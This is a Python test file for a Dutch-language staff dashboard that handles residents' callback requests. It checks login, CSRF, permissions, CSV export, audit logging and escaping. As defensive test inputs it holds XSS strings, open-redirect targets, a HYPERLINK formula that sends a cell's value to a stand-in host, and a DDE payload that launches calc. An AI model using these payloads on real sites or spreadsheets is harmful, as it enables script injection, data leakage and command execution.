"""The dashboard over real HTTP (Sanic's test client): logins, permissions, changes, escaping."""

from __future__ import annotations

import csv
import io
import json
import re
from codecs import BOM_UTF8
from datetime import date, datetime, timezone
from pathlib import Path

import httpx
import pytest

from bot.dashboard.web import SECURITY_HEADERS
from bot.store.db import make_engine
from bot.store.repository import Status
from tests.bot.dashboard.conftest import (
    NOW,
    PASSWORD,
    Dashboard,
    Visitor,
    make_dashboard,
    new_request,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'


def logged_in(dashboard: Dashboard, name: str = "bram") -> Visitor:
    visitor = dashboard.visitor()
    assert visitor.log_in(name).status_code == 302
    return visitor


def test_login_sets_a_strict_http_only_cookie_and_returns_to_the_page_asked(
    dashboard: Dashboard,
) -> None:
    visitor = dashboard.visitor()
    asked = visitor.get("/statistiek")
    assert asked.status_code == 302
    assert asked.headers["location"] == "/inloggen?volgende=/statistiek"
    visitor.get(asked.headers["location"])
    response = visitor.post(
        "/inloggen", {"naam": "bram", "wachtwoord": PASSWORD, "volgende": "/statistiek"}
    )
    assert response.status_code == 302 and response.headers["location"] == "/statistiek"
    cookie = next(
        c for c in response.headers.get_list("set-cookie") if c.startswith("hulpbot_sessie=")
    )
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
    assert visitor.get("/statistiek").status_code == 200


def test_every_cookie_is_secure_when_the_setting_says_so(tmp_path: Path) -> None:
    """The login form's CSRF cookie, the session cookie, and the cookies that clear them."""
    with make_dashboard(tmp_path, dashboard_secure_cookies=True) as dashboard:
        visitor = dashboard.visitor()
        form = visitor.get("/inloggen")
        logged_in = visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD})
        visitor.get("/verzoeken")
        logged_out = visitor.post("/uitloggen")
    cookies = [
        cookie
        for response in (form, logged_in, logged_out)
        for cookie in response.headers.get_list("set-cookie")
    ]
    names = {cookie.split("=", 1)[0] for cookie in cookies}
    assert names == {"hulpbot_login", "hulpbot_sessie"} and len(cookies) == 4
    for cookie in cookies:
        assert "; Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_no_cookie_is_secure_for_plain_http_on_this_machine(dashboard: Dashboard) -> None:
    assert dashboard.settings.dashboard_public_url.startswith("http://127.0.0.1")
    visitor = dashboard.visitor()
    cookies = [
        *visitor.get("/inloggen").headers.get_list("set-cookie"),
        *visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD}).headers.get_list(
            "set-cookie"
        ),
    ]
    assert cookies and not any("Secure" in cookie for cookie in cookies)


@pytest.mark.parametrize("target", ["//example.org/x", "https://example.org", "/\\example.org"])
def test_login_never_sends_anyone_to_another_site(dashboard: Dashboard, target: str) -> None:
    visitor = dashboard.visitor()
    visitor.get("/inloggen")
    response = visitor.post(
        "/inloggen", {"naam": "bram", "wachtwoord": PASSWORD, "volgende": target}
    )
    assert response.headers["location"] == "/verzoeken"


@pytest.mark.parametrize("name", ["bram", "niemand"])
def test_wrong_password_or_unknown_name_get_the_same_answer(
    dashboard: Dashboard, name: str
) -> None:
    response = dashboard.visitor().log_in(name, "helemaal fout wachtwoord")
    assert response.status_code == 401
    assert "Je naam of wachtwoord klopt niet." in response.text
    assert "hulpbot_sessie" not in response.headers.get("set-cookie", "")


def test_login_form_without_its_token_is_refused(dashboard: Dashboard) -> None:
    visitor = dashboard.visitor()
    visitor.get("/inloggen")
    visitor.csrf = "forged"
    response = visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD})
    assert response.status_code == 403
    assert "hulpbot_sessie" not in visitor.cookies


def test_a_change_without_the_csrf_token_is_refused_and_not_recorded(
    dashboard: Dashboard,
) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    for token in ("", "forged-token"):
        visitor.csrf = token
        response = visitor.post(f"/verzoeken/{reference}/status", {"status": "gebeld"})
        assert response.status_code == 403 and "formulier is verlopen" in response.text
    assert dashboard.requests.audit_actions(reference) == ["aangemaakt"]


def test_idle_timeout_and_activity_keeps_the_session(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    dashboard.clock.advance(minutes=25)
    assert visitor.get("/verzoeken").status_code == 200
    dashboard.clock.advance(minutes=25)
    assert visitor.get("/verzoeken").status_code == 200
    dashboard.clock.advance(minutes=31)
    expired = visitor.get("/verzoeken")
    assert expired.status_code == 302 and "verlopen=1" in expired.headers["location"]
    assert "niet actief" in visitor.get(expired.headers["location"]).text


def test_logout_ends_the_session_on_the_server(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    stolen = dict(visitor.cookies)
    visitor.get("/verzoeken")
    response = visitor.post("/uitloggen")
    assert response.headers["location"] == "/inloggen?uitgelogd=1"
    assert "hulpbot_sessie" not in visitor.cookies
    replay = Visitor(dashboard.url, cookies=stolen)
    assert replay.get("/verzoeken").status_code == 302


@pytest.mark.parametrize(
    ("method", "path"),
    [("get", "/export"), ("post", "/export"), ("get", "/accounts"), ("post", "/accounts")],
)
def test_staff_cannot_export_or_manage_accounts(
    dashboard: Dashboard, method: str, path: str
) -> None:
    visitor = logged_in(dashboard, "bram")
    visitor.get("/verzoeken")
    response = visitor.request(
        method, path, **({"data": {"csrf": visitor.csrf or ""}} if method == "post" else {})
    )
    assert response.status_code == 403 and "beheerder" in response.text
    assert "Export" not in visitor.get("/verzoeken").text
    assert dashboard.requests.events() == []


def exported(response: httpx.Response) -> list[dict[str, str]]:
    """The rows of an export as Excel reads them: UTF-8 after the byte-order mark."""
    assert response.content.startswith(BOM_UTF8)
    text = response.content[len(BOM_UTF8) :].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_admin_export_warns_and_is_audited(dashboard: Dashboard) -> None:
    dashboard.requests.save(new_request(name="Maria-José", channel="sms", urgent=True), NOW)
    visitor = logged_in(dashboard, "anna")
    warning = visitor.get("/export")
    assert "persoonsgegevens" in warning.text
    assert 'for="van"' in warning.text and 'for="tot"' in warning.text
    response = visitor.post("/export", {"van": "", "tot": "", "status": ""})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    [row] = exported(response)
    assert list(row)[:5] == ["Nummer", "Gevraagd op", "Kanaal", "Onderwerp", "Dringend"]
    assert (row["Naam"], row["Kanaal"], row["Onderwerp"]) == ("Maria-José", "SMS", "Woonclub")
    assert row["Gevraagd op"] == "24-11-2026 10:00"  # 09:00 UTC is 10:00 in Mechelen
    assert (row["Dringend"], row["Status"], row["Telefoon"]) == ("ja", "nieuw", "0470 12 34 56")
    [event] = dashboard.requests.events()
    assert (event.actor, event.action, event.detail) == ("anna", "export", "1 verzoek")


def test_export_filters_by_days_and_status(dashboard: Dashboard) -> None:
    """Days are the city's: 23:30 UTC on 30 November is already 1 December in Mechelen."""
    made = {
        key: dashboard.requests.save(new_request(key), when).record.reference
        for key, when in (
            ("early", datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc)),
            ("middle", datetime(2026, 11, 25, 12, 0, tzinfo=timezone.utc)),
            ("late", datetime(2026, 11, 30, 23, 30, tzinfo=timezone.utc)),
        )
    }
    dashboard.requests.set_status(made["middle"], Status.gebeld, "anna", NOW)
    visitor = logged_in(dashboard, "anna")
    visitor.get("/export")
    days = exported(visitor.post("/export", {"van": "2026-11-21", "tot": "2026-11-30"}))
    assert [row["Nummer"] for row in days] == [made["middle"]]
    visitor.get("/export")
    december = exported(visitor.post("/export", {"van": "2026-12-01"}))
    assert [(row["Nummer"], row["Gevraagd op"]) for row in december] == [
        (made["late"], "01-12-2026 00:30")
    ]
    visitor.get("/export")
    called = exported(visitor.post("/export", {"status": "gebeld", "tot": "30-11-2026"}))
    assert [row["Status"] for row in called] == ["gebeld"]
    assert [e.detail for e in dashboard.requests.events()] == [
        "1 verzoek (tot 30-11-2026, status gebeld)",
        "1 verzoek (van 01-12-2026)",
        "1 verzoek (van 21-11-2026, tot 30-11-2026)",
    ]


@pytest.mark.parametrize(
    ("form", "message"),
    [
        ({"van": "gisteren"}, "De eerste dag is geen datum"),
        ({"tot": "31-02-2026"}, "De laatste dag is geen datum"),
        ({"van": "2026-11-30", "tot": "2026-11-01"}, "De eerste dag komt na de laatste dag"),
        ({"status": "weg"}, "Kies een status uit de lijst"),
    ],
)
def test_export_form_errors_are_shown_and_nothing_is_exported(
    dashboard: Dashboard, form: dict[str, str], message: str
) -> None:
    dashboard.requests.save(new_request(), NOW)
    visitor = logged_in(dashboard, "anna")
    visitor.get("/export")
    response = visitor.post("/export", form)
    assert response.status_code == 400 and response.headers["content-type"].startswith("text/html")
    assert message in response.text and 'role="alert"' in response.text
    assert dashboard.requests.events() == []


def test_no_exported_cell_can_start_a_formula(dashboard: Dashboard) -> None:
    """Every text column, not only what residents typed: the channel once came from a caller
    (`=HYPERLINK(…)` reached the export that way), and it is shown from the fixed set."""
    attack = '=HYPERLINK("http://example.org/?"&A1,"klik")'
    reference = dashboard.requests.save(
        new_request(
            name=attack,
            channel=attack,
            topic="+SUM(1)",
            preferred_moment="-1+2",
            referral_code="@cmd",
        ),
        NOW,
    ).record.reference
    dashboard.requests.claim(reference, "=cmd|' /C calc'!A0", NOW)
    foreign = dashboard.requests.save(new_request("k2", phone="+31612345678"), NOW).record
    visitor = logged_in(dashboard, "anna")
    visitor.get("/export")
    row, other = exported(visitor.post("/export"))
    assert row["Kanaal"] == "anders"
    assert row["Naam"] == "'" + attack and row["Wie belt"] == "'=cmd|' /C calc'!A0"
    assert (row["Onderwerp"], row["Moment"], row["Doorverwezen door"]) == (
        "'+SUM(1)",
        "'-1+2",
        "'@cmd",
    )
    assert other["Nummer"] == foreign.reference
    assert other["Telefoon"] == "'+31 6 12345678"  # read as text, not as a sum
    for column, cell in [*row.items(), *other.items()]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def buttons(page: str) -> list[str]:
    """The labels of the one-click buttons on a request's page, in order."""
    doing = page.split('id="doen"')[1].split('class="again"')[0]
    return re.findall(r'<button type="submit"[^>]*>([^<]+)</button>', doing)


def test_claim_status_changes_and_notes_are_audited_and_shown(dashboard: Dashboard) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard, "bram")
    page = visitor.get(f"/verzoeken/{reference}")
    assert '<a class="call" href="tel:+32470123456">0470 12 34 56</a>' in page.text
    assert buttons(page.text) == ["Ik bel", "Gebeld", "Niet bereikbaar", "Afsluiten"]
    assert visitor.post(f"/verzoeken/{reference}/ik-bel").status_code == 303
    assert buttons(visitor.get(f"/verzoeken/{reference}").text)[0] == "Gebeld"  # mine now
    for _ in range(2):
        visitor.get(f"/verzoeken/{reference}")
        visitor.post(f"/verzoeken/{reference}/status", {"status": "niet bereikbaar"})
    visitor.get(f"/verzoeken/{reference}")
    visitor.post(f"/verzoeken/{reference}/notitie", {"notitie": "Voicemail ingesproken."})
    dashboard.clock.advance(minutes=20)
    visitor.get(f"/verzoeken/{reference}")
    visitor.post(f"/verzoeken/{reference}/status", {"status": "gebeld"})
    record = dashboard.requests.get(reference)
    assert record is not None
    assert (record.status, record.assigned_to, record.call_attempts) == ("gebeld", "bram", 2)
    assert record.called_at == NOW  # the first attempt counts as the first call
    assert record.closed_at is not None
    detail = dashboard.requests.detail(reference)
    assert detail is not None
    assert [(a.actor, a.action, a.detail) for a in detail.audit] == [
        ("hulpbot", "aangemaakt", "via web"),
        ("bram", "ik bel", None),
        ("bram", "status gewijzigd", "in behandeling → niet bereikbaar (poging 1)"),
        ("bram", "status gewijzigd", "niet bereikbaar → niet bereikbaar (poging 2)"),
        ("bram", "notitie toegevoegd", None),
        ("bram", "status gewijzigd", "niet bereikbaar → gebeld"),
    ]
    shown = visitor.get(f"/verzoeken/{reference}").text
    assert "Voicemail ingesproken." in shown and "(poging 2)" in shown and "2 keer" in shown
    assert "Verzoek gemaakt via web" in shown and "aangemaakt" not in shown
    assert buttons(shown) == ["Opnieuw openen", "Afsluiten"]  # no "Ik bel" once called
    anna = logged_in(dashboard, "anna")
    assert "Ik bel" not in buttons(anna.get(f"/verzoeken/{reference}").text)
    assert visitor.post(f"/verzoeken/{reference}/status", {"status": "afgesloten"}).is_redirect
    closed = visitor.get(f"/verzoeken/{reference}").text
    assert buttons(closed) == ["Opnieuw openen"]
    visitor.post(f"/verzoeken/{reference}/status", {"status": "in behandeling"})
    assert buttons(visitor.get(f"/verzoeken/{reference}").text)[0] == "Gebeld"  # still bram's
    assert buttons(anna.get(f"/verzoeken/{reference}").text)[0] == "Ik bel"  # anna may take it


def test_another_staff_member_takes_over_with_ik_bel_from_the_list(dashboard: Dashboard) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    dashboard.requests.claim(reference, "bram", NOW)
    anna = logged_in(dashboard, "anna")
    listed = anna.get("/verzoeken").text
    assert f'Ik bel<span class="visually-hidden"> {reference}</span>' in listed
    claimed = anna.post(f"/verzoeken/{reference}/ik-bel")
    assert claimed.status_code == 303
    assert claimed.headers["location"] == f"/verzoeken/{reference}?bericht=opgeslagen"
    shown = anna.get(claimed.headers["location"]).text
    assert "Ik bel (overgenomen van bram)" in shown
    assert "Ik bel" not in anna.get("/verzoeken").text.split("<tbody>")[1]
    assert "Ik bel<span" in logged_in(dashboard, "bram").get("/verzoeken").text


def test_call_again_on_a_day_is_an_open_status_until_that_day_has_passed(
    dashboard: Dashboard,
) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    page = visitor.get(f"/verzoeken/{reference}").text
    assert '<label for="datum">Opnieuw bellen op</label>' in page
    assert 'min="2026-11-24"' in page
    saved = visitor.post(
        f"/verzoeken/{reference}/status", {"status": "opnieuw bellen", "datum": "2026-11-27"}
    )
    assert saved.status_code == 303
    record = dashboard.requests.get(reference)
    assert record is not None and record.status == "opnieuw bellen"
    assert record.call_again_on == date(2026, 11, 27) and record.closed_at is None
    detail = dashboard.requests.detail(reference)
    assert detail is not None and detail.audit[-1].detail == "nieuw → opnieuw bellen op 27-11-2026"
    shown = visitor.get(f"/verzoeken/{reference}").text
    assert "opnieuw bellen</span> op 27-11-2026" in shown and 'value="2026-11-27"' in shown
    assert buttons(shown) == ["Ik bel", "Gebeld", "Niet bereikbaar", "Afsluiten"]
    inbox = visitor.get("/verzoeken").text
    assert "<title>(1) Verzoeken" in inbox and "op 27-11-2026" in inbox
    dashboard.clock.advance(days=3)  # Friday 27 November: the planned day, not late yet
    visitor = logged_in(dashboard)
    assert "te laat" not in visitor.get("/verzoeken").text.split("<tbody>")[1]
    dashboard.clock.advance(days=1)
    visitor = logged_in(dashboard)
    late = visitor.get("/verzoeken").text
    assert "<title>(1, 1 te laat) Verzoeken" in late
    assert (
        "Te laat: je wou opnieuw bellen op 27-11-2026."
        in visitor.get(f"/verzoeken/{reference}").text
    )
    visitor.post(f"/verzoeken/{reference}/status", {"status": "gebeld"})
    called = dashboard.requests.get(reference)
    assert called is not None and called.call_again_on is None


@pytest.mark.parametrize(
    ("day", "accepted"),
    [
        ("", False),
        ("morgen", False),
        ("2026-11-23", False),  # yesterday
        ("2028-01-01", False),  # more than a year ahead
        ("2026-11-24", True),
        ("28/11/2026", True),  # typed where a browser has no date field
    ],
)
def test_call_again_needs_a_day_from_today_on(
    dashboard: Dashboard, day: str, accepted: bool
) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    visitor.get(f"/verzoeken/{reference}")
    response = visitor.post(
        f"/verzoeken/{reference}/status", {"status": "opnieuw bellen", "datum": day}
    )
    record = dashboard.requests.get(reference)
    assert record is not None
    if accepted:
        assert response.status_code == 303 and record.status == "opnieuw bellen"
        return
    assert response.status_code == 400
    assert "Kies de dag waarop je opnieuw belt" in response.text
    assert 'role="alert"' in response.text and f"Verzoek {reference}" in response.text
    assert record.status == "nieuw" and record.call_again_on is None
    assert dashboard.requests.audit_actions(reference) == ["aangemaakt"]


def test_urgent_open_requests_come_first_in_red_words(dashboard: Dashboard) -> None:
    urgent = dashboard.requests.save(new_request("k1", urgent=True), NOW.replace(day=20)).record
    handled = dashboard.requests.save(new_request("k2", urgent=True), NOW.replace(day=21)).record
    dashboard.requests.set_status(handled.reference, Status.afgesloten, "anna", NOW)
    fresh = dashboard.requests.save(new_request("k3"), NOW).record
    visitor = logged_in(dashboard)
    inbox = visitor.get("/verzoeken").text.split("<tbody>")[1]
    order = sorted((inbox.index(r.reference), r.reference) for r in (urgent, handled, fresh))
    assert [reference for _, reference in order] == [
        urgent.reference,
        fresh.reference,
        handled.reference,
    ]
    first_row = inbox.split("</tr>")[0]
    assert '<tr class="urgent overdue">' in first_row
    assert '<span class="flag urgent">dringend</span>' in first_row
    assert inbox.count(">dringend</span>") == 2  # the closed one still says so, lower down
    shown = visitor.get(f"/verzoeken/{urgent.reference}").text
    assert "<strong>Dringend.</strong>" in shown and "<dt>Dringend</dt><dd>ja</dd>" in shown
    assert "Verzoek gemaakt via web, dringend" in shown
    plain = visitor.get(f"/verzoeken/{fresh.reference}").text
    assert "<dt>Dringend</dt><dd>nee</dd>" in plain and "Dringend." not in plain


def test_the_list_shows_the_question_masked_and_the_number_to_read_aloud(
    dashboard: Dashboard,
) -> None:
    question = (
        "goeiedag ik ben 83 jaar en mijn dochter 0478/12.34.56 kan mij niet meer voeren "
        "naar het ziekenhuis voor mijn afspraak | hoeveel kost da"
    )
    reference = dashboard.requests.save(
        new_request(excerpt=question, phone="+3215421624", channel="sms", name=None), NOW
    ).record.reference
    old = dashboard.requests.save(new_request("k2", channel="rest"), NOW).record.reference
    visitor = logged_in(dashboard)
    inbox = visitor.get("/verzoeken").text
    row = inbox[inbox.index(f">{reference}<") :].split("</tr>")[0]
    assert "goeiedag ik ben 83 jaar en mijn dochter [telefoonnummer] kan mij niet meer" in row
    assert "0478" not in row and "ziekenhuis voor mijn afspraak" not in row and "…" in row
    assert '<a class="phone" href="tel:+3215421624">015 42 16 24</a>' in row
    assert "via SMS" in row and "geen naam" in row
    assert "rest" not in inbox.split("<tbody>")[1]
    assert "Verzoek gemaakt via anders" in visitor.get(f"/verzoeken/{old}").text


def test_the_transcript_shows_the_button_tapped_never_its_payload(
    dashboard: Dashboard, tmp_path: Path
) -> None:
    saved = dashboard.requests.save(new_request(), NOW).record
    engine = make_engine(f"sqlite:///{tmp_path / 'tracker.db'}")
    events = [
        ("user", {"text": "/greet"}),
        (
            "bot",
            {
                "text": "Dag! Waarmee kan ik helpen?",
                "data": {
                    "buttons": [
                        {"title": "Bel mij terug", "payload": "/request_callback"},
                        {
                            "title": "Den Abeel",
                            "payload": '/ask_dienstencentrum{"location":"den_abeel"}',
                        },
                    ]
                },
            },
        ),
        ("user", {"text": '/ask_dienstencentrum{"location":"den_abeel"}'}),
        ("user", {"text": "/request_callback"}),
        ("user", {"text": "/ask_woonclub"}),
        ("user", {"text": "/iets_onbekends"}),
    ]
    with engine.begin() as connection:
        connection.exec_driver_sql(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
            "timestamp FLOAT, intent_name TEXT, action_name TEXT, data TEXT)"
        )
        for n, (kind, data) in enumerate(events):
            connection.exec_driver_sql(
                "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
                (saved.sender_id, kind, NOW.timestamp() + n, json.dumps(data)),
            )
    engine.dispose()
    page = logged_in(dashboard).get(f"/verzoeken/{saved.reference}").text
    said = re.findall(r"koos de knop:</span> ([^<]+)<", page)
    assert said == ["Start", "Den Abeel", "Bel mij terug", "Woonclub", "een knop"]
    assert "/request_callback" not in page and "/ask_" not in page and "/greet" not in page


def test_bad_status_empty_note_and_unknown_request(dashboard: Dashboard) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    visitor.get(f"/verzoeken/{reference}")
    assert visitor.post(f"/verzoeken/{reference}/status", {"status": "weg"}).status_code == 400
    assert visitor.post(f"/verzoeken/{reference}/notitie", {"notitie": "  "}).status_code == 400
    assert visitor.post("/verzoeken/MB-ZZZZ/ik-bel").status_code == 404
    missing = visitor.get("/verzoeken/MB-ZZZZ")
    assert missing.status_code == 404 and "bestaat niet" in missing.text


def tracker_with(path: Path, sender: str, *said: tuple[str, str]) -> None:
    """Rows shaped like Rasa's SQL tracker store `events` table."""
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        connection.exec_driver_sql(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
            "timestamp FLOAT, intent_name TEXT, action_name TEXT, data TEXT)"
        )
        for n, (kind, text) in enumerate(said):
            connection.exec_driver_sql(
                "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
                (sender, kind, NOW.timestamp() + n, json.dumps({"event": kind, "text": text})),
            )
    engine.dispose()


def test_everything_typed_by_residents_or_staff_is_escaped(
    dashboard: Dashboard, tmp_path: Path
) -> None:
    saved = dashboard.requests.save(
        new_request(name=SCRIPT, excerpt=IMG, referral_code=IMG, topic=SCRIPT), NOW
    ).record
    tracker_with(tmp_path / "tracker.db", saved.sender_id, ("user", IMG), ("bot", SCRIPT))
    visitor = logged_in(dashboard, "anna")
    visitor.get(f"/verzoeken/{saved.reference}")
    visitor.post(f"/verzoeken/{saved.reference}/notitie", {"notitie": IMG + SCRIPT})
    visitor.get("/accounts")
    visitor.post("/accounts", {"naam": "x", "rol": "staff", "wachtwoord": IMG * 2})
    pages = [
        visitor.get(f"/verzoeken/{saved.reference}").text,
        visitor.get("/verzoeken").text,
        visitor.get(f"/verzoeken?onderwerp={SCRIPT}").text,
        visitor.get("/statistiek").text,
    ]
    for page in pages:
        assert "<script>" not in page and "<img" not in page
    detail = pages[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in detail
    assert "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in detail
    assert detail.count("&lt;img") >= 4  # excerpt, referral, transcript, note


def test_security_headers_on_every_kind_of_page(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    for path in ("/inloggen", "/verzoeken", "/bestaat-niet", "/static/dashboard.css", "/api/x"):
        response = visitor.get(path)
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value, (path, name)
    assert "'unsafe-inline'" not in SECURITY_HEADERS["Content-Security-Policy"]
    assert visitor.get("/verzoeken").headers["cache-control"] == "no-store"


def test_inbox_filters_newest_first_and_flags_late_calls(dashboard: Dashboard) -> None:
    earlier = NOW.replace(day=20)  # a Friday morning: the promised half-day has long passed
    late = dashboard.requests.save(new_request("k1", "Oud"), earlier).record
    fresh = dashboard.requests.save(
        new_request("k2", "Nieuw", channel="telegram", topic="dienstencentrum"), NOW
    ).record
    done = dashboard.requests.save(new_request("k3", "Klaar"), earlier).record
    dashboard.requests.set_status(done.reference, Status.gebeld, "anna", NOW)
    visitor = logged_in(dashboard)
    inbox = visitor.get("/verzoeken").text
    assert inbox.index(fresh.reference) < inbox.index(late.reference)
    assert inbox.split("<tbody>")[1].count("te laat") == 1
    assert "<title>(2, 1 te laat) Verzoeken" in inbox
    late_row = inbox[inbox.index(late.reference) :].split("</tr>")[0]
    assert "te laat" in late_row and "4 d geleden" in late_row
    only_telegram = visitor.get("/verzoeken?kanaal=telegram").text
    assert fresh.reference in only_telegram and late.reference not in only_telegram
    by_status = visitor.get("/verzoeken?status=gebeld").text
    assert done.reference in by_status and fresh.reference not in by_status
    by_topic = visitor.get("/verzoeken?onderwerp=woonclub").text
    assert late.reference in by_topic and fresh.reference not in by_topic
    assert "3 verzoeken" in visitor.get("/verzoeken?status=onzin").text


def test_content_page_flags_facts_past_the_staleness_window(dashboard: Dashboard) -> None:
    page = logged_in(dashboard).get("/inhoud").text
    assert "0800 20 800" in page and "nakijken" in page
    assert "ouder dan 180 dagen" in page


def test_statistics_count_per_topic_and_channel_with_the_median_wait(
    dashboard: Dashboard,
) -> None:
    for n, channel in enumerate(["web", "telegram", "telegram"]):
        reference = dashboard.requests.save(
            new_request(f"k{n}", channel=channel), NOW
        ).record.reference
        dashboard.requests.set_status(reference, Status.gebeld, "anna", NOW.replace(hour=10 + n))
    page = logged_in(dashboard).get("/statistiek").text
    assert '<strong id="totaal">3</strong>' in page
    assert '<strong id="mediaan">2 u</strong>' in page
    assert "<svg" in page and "Telegram" in page and "Woonclub" in page


def test_admin_adds_and_disables_accounts(dashboard: Dashboard) -> None:
    admin = logged_in(dashboard, "anna")
    admin.get("/accounts")
    weak = admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": "kort"})
    assert weak.status_code == 400 and "minstens 12 tekens" in weak.text
    added = admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": PASSWORD})
    assert added.status_code == 303
    carla = logged_in(dashboard, "carla")
    admin.get("/accounts")
    assert admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": PASSWORD})
    admin.get("/accounts")
    assert admin.post("/accounts/carla/uitschakelen").status_code == 303
    assert carla.get("/verzoeken").status_code == 302  # logged out at once
    assert dashboard.visitor().log_in("carla").status_code == 401
    admin.get("/accounts")
    assert admin.post("/accounts/anna/uitschakelen").status_code == 400
    assert [e.action for e in dashboard.requests.events()] == [
        "account uitgeschakeld",
        "account toegevoegd",
    ]
